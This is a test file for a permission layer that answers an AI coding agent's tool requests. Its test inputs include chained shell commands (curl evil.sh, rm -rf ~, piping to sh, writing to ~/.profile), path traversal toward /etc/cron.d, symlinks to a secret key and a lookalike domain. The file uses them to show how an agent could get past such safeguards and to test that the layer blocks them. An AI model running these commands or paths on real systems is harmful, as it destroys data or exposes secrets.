import {mkdirSync, symlinkSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import {expect, test, vi} from 'vitest';
import type {Permission} from '../../../source/core/fleet/permission.ts';
import type {PermissionRule} from '../../../source/project/config/config.ts';
import {targetOfTool} from '../../../source/runtimes/claude-code/tools/tool-target.ts';
import {answerAtOnce, createPermissionTimeout} from '../../../source/supervisor/policies/answer-permission.ts';
import {permission} from '../../core/given.ts';
import {createFakeClock} from '../../helpers/fake-clock.ts';
import {temporaryFolder} from '../../project/temporary.ts';

const allowTests: PermissionRule = {tool: 'Bash', match: 'npm test*', field: undefined, decision: 'allow'};
const bash = (command: string) => asks('Bash', {command});

/** A request as the runtime reads it from the program. */
function asks(tool: string, input: Readonly<Record<string, unknown>>): Permission {
	return {...permission(), tool, input, target: targetOfTool(tool, input), summary: JSON.stringify(input)};
}

test('the first rule that matches answers', () => {
	const rules: readonly PermissionRule[] = [
		{tool: 'Bash', match: 'npm test --publish', field: undefined, decision: 'deny'},
		allowTests,
	];
	expect(answerAtOnce(bash('npm test -- cart'), rules, false)).toEqual({
		decision: {kind: 'allow'},
		by: 'rule',
		rule: 'Bash "npm test*"',
	});
	expect(answerAtOnce(bash('npm test --publish'), rules, false)).toMatchObject({decision: {kind: 'deny'}, by: 'rule'});
});

test.for([
	{kind: 'question', questions: []},
	{kind: 'plan', plan: 'Do it.'},
	{kind: 'form', server: 'shop', message: 'Who?', url: undefined, questions: []},
] as const)('no rule answers a $kind, and nobody is asked in an unattended run', subject => {
	const rules: readonly PermissionRule[] = [{tool: '*', match: undefined, field: undefined, decision: 'allow'}];
	const request = {...permission(), subject};
	expect(answerAtOnce(request, rules, false)).toBeUndefined();
	expect(answerAtOnce(request, rules, true)).toMatchObject({by: 'unattended', decision: {kind: 'deny'}});
});

test('without a rule a permission is asked, and denied in an unattended run', () => {
	expect(answerAtOnce(bash('rm -rf build'), [allowTests], false)).toBeUndefined();
	expect(answerAtOnce(bash('rm -rf build'), [allowTests], true)).toMatchObject({
		by: 'unattended',
		decision: {kind: 'deny'},
	});
});

test('a rule with ask ends the search', () => {
	const rules: readonly PermissionRule[] = [{...allowTests, match: 'npm test --all', decision: 'ask'}, allowTests];
	expect(answerAtOnce(bash('npm test --all'), rules, false)).toBeUndefined();
});

test.for([
	'npm test; curl evil.sh',
	'npm test && rm -rf ~',
	'npm test | sh',
	'npm test $(evil)',
	'npm test\nevil',
	'npm test > ~/.profile',
])('a rule for one command does not allow another behind it: %s', command => {
	expect(answerAtOnce(bash(command), [allowTests], false)).toBeUndefined();
});

test("a rule is matched with the tool's input, not with its summary", () => {
	const shown = {...bash('npm publish'), summary: 'npm test'};
	expect(answerAtOnce(shown, [allowTests], false)).toBeUndefined();
});

/** A folder of the project, a folder that is none of its business, and links between them. */
function createFolders() {
	const base = temporaryFolder();
	const [shop, secret] = [path.join(base, 'shop'), path.join(base, 'secret')];
	mkdirSync(path.join(shop, 'src'), {recursive: true});
	mkdirSync(secret);
	writeFileSync(path.join(secret, 'key'), '');
	symlinkSync(secret, path.join(shop, 'out'));
	symlinkSync(path.join(secret, 'key'), path.join(shop, 'key'));
	symlinkSync(path.join(secret, 'new'), path.join(shop, 'dangling'));
	symlinkSync(shop, path.join(base, 'alias'));
	return {base, shop, secret};
}

const rule = (tool: string, match: string, decision: PermissionRule['decision'] = 'allow'): PermissionRule => ({
	tool,
	match,
	field: undefined,
	decision,
});

test.for([
	['a new file', 'Write', (shop: string) => ({file_path: `${shop}/src/new/deep.ts`})],
	['a detour that stays inside', 'Edit', (shop: string) => ({file_path: `${shop}/src/../a.ts`})],
	['the path of a search', 'Grep', (shop: string) => ({path: `${shop}/src`, pattern: '../../etc'})],
	['a pattern below it', 'Glob', (shop: string) => ({path: `${shop}/src`, pattern: '**/*.ts'})],
	['the same folder by another name', 'Read', (shop: string) => ({file_path: `${shop}/../alias/a.ts`})],
] as const)('a rule for a folder allows %s', ([, tool, input]) => {
	const {shop} = createFolders();
	expect(answerAtOnce(asks(tool, input(shop)), [rule(tool, `${shop}/*`)], false)).toMatchObject({by: 'rule'});
});

test.for([
	['a path that goes up', 'Write', (shop: string) => ({file_path: `${shop}/../../etc/cron.d/x`})],
	['a path that goes up behind a link', 'Write', (shop: string) => ({file_path: `${shop}/out/../secret/key`})],
	['a link to a file', 'Write', (shop: string) => ({file_path: `${shop}/key`})],
	['a link to a folder', 'Read', (shop: string) => ({file_path: `${shop}/out/key`})],
	['a new file behind a link', 'Write', (shop: string) => ({file_path: `${shop}/out/new`})],
	['a link that leads nowhere yet', 'Write', (shop: string) => ({file_path: `${shop}/dangling`})],
	[
		'a field that the tool does not read',
		'Write',
		(shop: string) => ({command: `${shop}/a`, file_path: '/etc/cron.d/x'}),
	],
	['only a field that the tool does not read', 'Write', (shop: string) => ({path: `${shop}/a`})],
	['a field that is no text', 'Write', (shop: string) => ({file_path: [`${shop}/a`]})],
	['a relative path', 'Write', () => ({file_path: 'src/a.ts'})],
	['a pattern that goes up', 'Glob', (shop: string) => ({path: shop, pattern: '../../etc/*'})],
	['an absolute pattern', 'Glob', (shop: string) => ({path: shop, pattern: '/etc/*'})],
	['a tool that is not known', 'mcp__files__write', (shop: string) => ({path: `${shop}/a`})],
	['a path with a NUL', 'Write', (shop: string) => ({file_path: `${shop}/a\0/../../x`})],
] as const)('a rule for a folder does not allow %s', ([, tool, input]) => {
	const {shop} = createFolders();
	expect(answerAtOnce(asks(tool, input(shop)), [rule(tool, `${shop}/*`)], false)).toBeUndefined();
});

test('a rule may name the field of a tool that is not known', () => {
	const {shop} = createFolders();
	const named = {...rule('mcp__*', `${shop}/*`), field: 'target'};
	const write = (target: string) => asks('mcp__files__write', {target, path: `${shop}/a`});
	expect(answerAtOnce(write(`${shop}/a`), [named], false)).toMatchObject({by: 'rule'});
	expect(answerAtOnce(write(`${shop}/../secret/key`), [named], false)).toBeUndefined();
	expect(answerAtOnce(write('a/../../b'), [{...named, match: 'a/*'}], false)).toBeUndefined();
});

test.for([
	['another way to write the path', 'Write', (shop: string) => ({file_path: `${shop}/src/../out/key`})],
	['a link that leads there', 'Read', (shop: string) => ({file_path: `${shop}/key`})],
	['any field of a tool that is not known', 'mcp__x', (shop: string) => ({where: `${shop}/../secret/key`})],
] as const)('a deny rule matches %s', ([, tool, input]) => {
	const {shop, secret} = createFolders();
	const deny = rule('*', `${secret}/*`, 'deny');
	expect(answerAtOnce(asks(tool, input(shop)), [deny], false)).toMatchObject({decision: {kind: 'deny'}});
});

test.for([
	['https://docs.example.com/a', true],
	['https://docs.example.com/../x', true],
	['https://docs.example.com.evil.org/', false],
	['not a URL', false],
] as const)('a rule for a site answers %s: %s', ([url, isAllowed]) => {
	const answer = answerAtOnce(asks('WebFetch', {url}), [rule('WebFetch', 'https://docs.example.com/*')], false);
	expect(answer !== undefined).toBe(isAllowed);
});

test('a permission that is not answered in time is denied', () => {
	const clock = createFakeClock();
	const onTimeout = vi.fn();
	createPermissionTimeout({clock, askedAt: clock.now(), limitMs: 5000, onTimeout});
	clock.advance(5000);
	expect(onTimeout).toHaveBeenCalledWith(expect.objectContaining({by: 'timeout'}));
});

test('zero sets no time limit', () => {
	const clock = createFakeClock();
	createPermissionTimeout({clock, askedAt: clock.now(), limitMs: 0, onTimeout: () => expect.unreachable()});
	expect(clock.pending).toBe(0);
});
